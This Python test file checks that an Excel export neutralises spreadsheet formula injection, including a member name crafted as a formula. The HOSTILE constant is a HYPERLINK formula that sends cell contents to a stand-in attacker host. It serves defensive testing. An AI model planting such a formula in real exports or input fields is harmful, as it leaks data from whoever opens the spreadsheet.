"""Exports that cannot run: a member named like a formula exports as text and imports back."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.excel.safety import FORMULA_STARTS, defuse, neutral, restore

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_prefixed(start):
    assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert restore(neutral(f"{start}1+1")) == f"{start}1+1"
    assert neutral("张三") == "张三" and neutral(-5) == -5


def test_defuse_turns_formulas_into_values():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    assert workbook.active["A1"].data_type == "f"
    defuse(workbook)
    assert workbook.active["A1"].data_type == "s" and workbook.active["A1"].value == "'=1+1"


def test_member_named_like_a_formula_exports_as_text(tenant, make_organization, make_member, make_user, login, client):
    branch = make_organization(tenant, "b1", name="第一党支部")
    make_member(branch, name=HOSTILE[:50])
    login(make_user("unit_admin", tenant))
    export = client.get("/units/caizhengju/excel/export/members")
    assert export.status_code == 200
    with zipfile.ZipFile(io.BytesIO(export.data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml for xml in sheets), "a formula element was written"
    rows = list(load_workbook(io.BytesIO(export.data)).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert rows[0][1] == "'" + HOSTILE[:50]
